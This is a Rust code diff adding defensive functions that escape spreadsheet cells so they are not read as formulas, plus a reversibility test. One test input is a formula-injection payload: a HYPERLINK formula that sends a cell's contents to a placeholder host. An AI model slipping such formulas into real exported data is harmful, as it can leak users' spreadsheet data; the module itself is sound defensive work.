@@ -1,0 +1,49 @@
+//! Cells of tables that people open in a spreadsheet.
+
+/// What a spreadsheet takes for the beginning of a formula.
+const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
+
+fn begins_formula(cell: &str) -> bool {
+    cell.starts_with(FORMULA_STARTS)
+}
+
+/// `cell` such that no spreadsheet takes it for a formula: one that begins with `=`, `+`, `-`, `@`, a
+/// tab or a carriage return gets a `'` in front. So does one that only lacks those `'`, so that [`plain`] can
+/// take exactly one away.
+pub fn inert(cell: &str) -> String {
+    if begins_formula(cell.trim_start_matches('\'')) { format!("'{cell}") } else { cell.to_owned() }
+}
+
+/// What [`inert`] was given.
+pub fn plain(cell: &str) -> &str {
+    match cell.strip_prefix('\'') {
+        Some(rest) if begins_formula(rest.trim_start_matches('\'')) => rest,
+        _ => cell,
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn no_cell_is_a_formula_and_all_come_back() {
+        for (cell, expected) in [
+            ("=HYPERLINK(\"http://x?\"&A1)", "'=HYPERLINK(\"http://x?\"&A1)"),
+            ("+1", "'+1"),
+            ("-1", "'-1"),
+            ("@x", "'@x"),
+            ("\tx", "'\tx"),
+            ("\rx", "'\rx"),
+            ("'=x", "''=x"),
+            ("''=x", "'''=x"),
+            ("'t Hooft", "'t Hooft"),
+            ("a=b", "a=b"),
+            ("'", "'"),
+            ("", ""),
+        ] {
+            assert_eq!(inert(cell), expected);
+            assert_eq!(plain(&inert(cell)), cell);
+        }
+    }
+}
